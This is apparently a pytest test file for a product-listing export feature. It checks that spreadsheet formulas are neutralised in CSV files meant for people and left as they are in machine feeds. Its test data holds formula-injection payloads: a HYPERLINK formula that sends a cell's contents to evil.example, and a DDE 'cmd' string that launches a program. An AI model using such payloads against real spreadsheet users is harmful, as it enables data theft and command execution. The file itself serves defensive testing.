"""No cell is one that a spreadsheet would run."""

from __future__ import annotations

import re
from urllib.parse import parse_qs, quote, urlsplit

import pytest

from listings.exports import all_formats
from listings.exports.cells import safe
from tests.listings.exports.conftest import CATEGORY, send, table

MACHINES = [one for one in all_formats().values() if one.platform is not None]
EVIL = '=HYPERLINK("https://evil.example/?x="&A1,"Jeans")'


@pytest.mark.parametrize(
    "text",
    [
        *("=1+1", "+1+1", "-1+1", "@SUM(A1)", "=cmd|' /C calc'!A0", "\uff1d1+1", "\u200e=1+1"),
        *("-", "+", "@"),
    ],
)
def test_formulas_become_text(text):
    assert safe(text) == f"'{text}"


@pytest.mark.parametrize(
    "text", ["", "45.00", "-5", "Jeans", "a=b", "'=x", "https://x.example/?a=b"]
)
def test_other_cells_stay_as_they_are(text):
    assert safe(text) == text


def told(**more):
    return {
        "title": EVIL,
        "description": "@SUM(1)\n+1",
        "brand": "+cmd",
        "size": "-1+1",
        "sku": "=SKU",
        "colors": ["=1", "b"],
        "materials": ["@m"],
        "tags": ["=t", "+u"],
        "attributes": {"=Name": "=2+2", "UPC": "=3", "Pattern": "-x"},
        **more,
    }


def test_no_cell_of_a_file_for_people_is_a_formula(owner, make_listing):
    make_listing(**told())
    header, [row] = table(send(owner, "csv"))
    assert not any(re.match(r"\s*[=+\-@]", cell) for cell in [*header, *row.values()])
    assert (row["title"], row["sku"]) == (f"'{EVIL}", "'=SKU")


@pytest.mark.parametrize("format", MACHINES, ids=lambda one: one.name)
@pytest.mark.parametrize("sku", ["@home", "-5 XL", "=A1", "+49/7 a&b", "4006381333931"])
def test_a_file_for_a_machine_leaves_cells_as_they_are(owner, make_listing, format, sku):
    listing = make_listing(**told(sku=sku, description="@SUM(1)"))
    link = "https://shop.example/p?n={sku}&h={handle}"
    header, [row] = table(
        send(
            owner,
            format.name,
            **({"link": link} if "link" in format.requires else CATEGORY.get(format.name, {})),
        )
    )
    assert not any(cell.startswith("'") for cell in [*header, *row.values()])
    assert EVIL in row.values()
    labels = {"ebay": "CustomLabel", "ebayDrafts": "Custom label (SKU)", "shopify": "SKU"}
    assert row[labels.get(format.name, "id")] == sku
    if "link" in format.requires:
        number = listing.public_id[-8:].lower()
        assert parse_qs(urlsplit(row["link"]).query)["n"] == [row["id"]]
        assert row["link"] == (
            f"https://shop.example/p?n={quote(sku, safe='')}"
            f"&h=hyperlinkhttpsevilexamplexa1jeans-{number}"
        )


@pytest.mark.parametrize("format", MACHINES, ids=lambda one: one.name)
def test_a_dash_before_a_line_becomes_a_bullet_for_a_machine(owner, make_listing, format):
    make_listing(title="- Jeans", description="- 100% cotton\n- blue-ish - a bit\n-5 cm")
    more = {"link": "https://shop.example/{sku}"} if "link" in format.requires else {}
    _, [row] = table(send(owner, format.name, **more))
    cells = {name.strip("*").lower(): cell for name, cell in row.items()}
    assert cells["title"] == "\u2022 Jeans"
    assert cells["description"] == {
        "google": "\u2022 100% cotton \u2022 blue-ish - a bit -5 cm",
        "meta": "\u2022 100% cotton\n\u2022 blue-ish - a bit\n-5 cm",
    }.get(format.name, "<p>\u2022 100% cotton<br>\u2022 blue-ish - a bit<br>-5 cm</p>")
